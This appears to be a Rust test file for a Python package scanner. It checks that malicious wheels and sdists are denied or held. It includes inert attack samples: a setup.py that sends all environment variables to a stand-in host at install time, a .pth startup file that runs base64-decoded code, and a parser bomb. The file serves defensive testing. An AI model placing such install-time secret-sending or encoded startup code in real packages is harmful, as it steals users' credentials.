//! Whole inspections of inert samples: what each of them adds up to.

#![allow(clippy::unwrap_used)]

use std::io::Cursor;

use portcullis_core::inspection::INSPECTION_RULES;
use portcullis_core::policy::Effect;
use portcullis_core::pypi::filename::DistFilename;
use portcullis_fixtures::{sdist, wheel};

use super::*;
use crate::python::{CapabilityKind, Context};

/// Harmless when it runs: the host is under `.invalid`, which no name server answers for.
const BEACON: &str = "import os, urllib.request\n\
    from setuptools import setup\n\
    urllib.request.urlopen('https://collect.invalid/', data=str(dict(os.environ)).encode())\n\
    setup(name='demo')\n";

fn inspect(name: &str, bytes: Vec<u8>) -> Inspected {
    let filename = DistFilename::parse(name, None).unwrap();
    inspect_archive(Cursor::new(bytes), &filename, &Budget::default())
        .unwrap()
        .inspected
}

fn rules(inspection: &Inspected) -> Vec<&str> {
    inspection
        .observations
        .iter()
        .map(|seen| &*seen.rule)
        .collect()
}

#[test]
fn a_clean_wheel_is_allowed() {
    let wheel = wheel("demo", "1.0").file("demo/__init__.py", "def add(a, b):\n    return a + b\n");
    let bytes = wheel.build();
    let inspection = inspect(&wheel.filename(), bytes.clone());
    assert_eq!(
        inspection.effect(),
        Effect::Allow,
        "{:#?}",
        inspection.observations
    );
    assert!(inspection.complete);
    assert_eq!(inspection.sha256, Sha256::of(&bytes));
    assert_eq!(inspection.statistics.files, 4);
    assert_eq!(inspection.statistics.modules, 1);
}

#[test]
fn a_startup_file_with_decoded_code_is_denied() {
    let line = "import base64; exec(base64.b64decode('cHJpbnQoMSk='))\n";
    let wheel = wheel("demo", "1.0")
        .file("demo/__init__.py", "")
        .file("demo_init.pth", line);
    let inspection = inspect(&wheel.filename(), wheel.build());
    assert_eq!(inspection.effect(), Effect::Deny);
    let rules = rules(&inspection);
    assert!(
        rules.contains(&"ARC-001") && rules.contains(&"EXE-001"),
        "{rules:?}"
    );
    let first = &inspection.observations[0];
    let excerpt = inspection.excerpt(&first.file, first.line).unwrap();
    assert_eq!(excerpt.text, line.trim_end());
    assert!(
        inspection
            .capabilities
            .iter()
            .any(|one| one.kind == CapabilityKind::DynamicCode)
    );
}

#[test]
fn a_setup_py_that_sends_secrets_is_denied_wherever_it_comes_from() {
    let sdist = sdist("demo", "1.0").file("setup.py", BEACON);
    let archived = inspect(&sdist.filename(), sdist.build());
    let alone = inspect_source("setup.py", BEACON.into(), &Budget::default());
    for inspection in [archived, alone] {
        assert_eq!(inspection.effect(), Effect::Deny);
        let seen = inspection
            .observations
            .iter()
            .find(|seen| seen.rule == "NET-001")
            .unwrap();
        assert_eq!((seen.context, seen.line), (Context::Install, 3));
        assert!(!seen.chain.is_empty());
    }
}

#[test]
fn what_cannot_be_read_is_held_and_incomplete() {
    for (name, bytes) in [
        ("demo-1.0-py3-none-any.whl", b"no archive".to_vec()),
        ("demo-1.0.tar.gz", vec![0x1f, 0x8b, 8, 0, 1]),
        ("demo-1.0-py3-none-any.whl", Vec::new()),
        ("demo.exe", b"MZ".to_vec()),
    ] {
        let inspection = inspect(name, bytes);
        assert!(!inspection.complete, "{name}");
        assert!(inspection.effect() >= Effect::Hold, "{name}");
    }
}

#[test]
fn a_parser_bomb_is_held() {
    let bomb = format!(
        "import os\nos.system('true')\nx = {}1\n",
        "1+".repeat(50_000)
    );
    let inspection = inspect_source("demo/__init__.py", bomb.into(), &Budget::default());
    assert!(
        inspection.effect() >= Effect::Hold,
        "{:?}",
        inspection.observations
    );
}

#[test]
fn no_time_means_incomplete_and_incomplete_means_hold() {
    let mut budget = Budget::default();
    budget.python.time = std::time::Duration::ZERO;
    let code = "import os\nos.system('true')\n";
    let inspection = inspect_source("demo/__init__.py", code.into(), &budget);
    assert!(!inspection.complete);
    assert_eq!(
        (inspection.effect(), inspection.found()),
        (Effect::Hold, Effect::Allow)
    );
}

#[test]
fn every_rule_has_a_manual_that_says_why() {
    for manual in manuals() {
        assert!(
            manual.why().len() > 20 && !manual.title.ends_with('.'),
            "{}",
            manual.id
        );
    }
    assert!(manual("EXE-001").is_some() && manual("ENG-002").is_some());
    assert!(manual("ABC-001").is_none());
}

#[test]
fn policies_know_every_rule_by_its_id() {
    let ids: Vec<&str> = manuals().iter().map(|manual| manual.id).collect();
    assert_eq!(
        ids, INSPECTION_RULES,
        "crates/core/src/inspection/ids.rs has to list the rules that are registered"
    );
}
